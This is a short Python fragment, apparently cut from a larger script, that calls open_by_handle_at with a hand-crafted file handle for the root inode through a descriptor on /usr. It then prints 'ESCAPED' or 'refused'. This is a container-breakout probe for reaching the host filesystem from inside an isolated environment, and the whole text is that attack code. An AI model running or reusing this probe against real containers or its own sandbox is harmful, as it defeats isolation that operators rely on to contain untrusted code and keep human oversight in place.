h = ctypes.create_string_buffer(struct.pack('=Ii', 8, 1) + struct.pack('=II', 2, 0))
fd = C.open_by_handle_at(os.open('/usr', 0), h, 0)
print('ESCAPED' if fd >= 0 else 'refused')
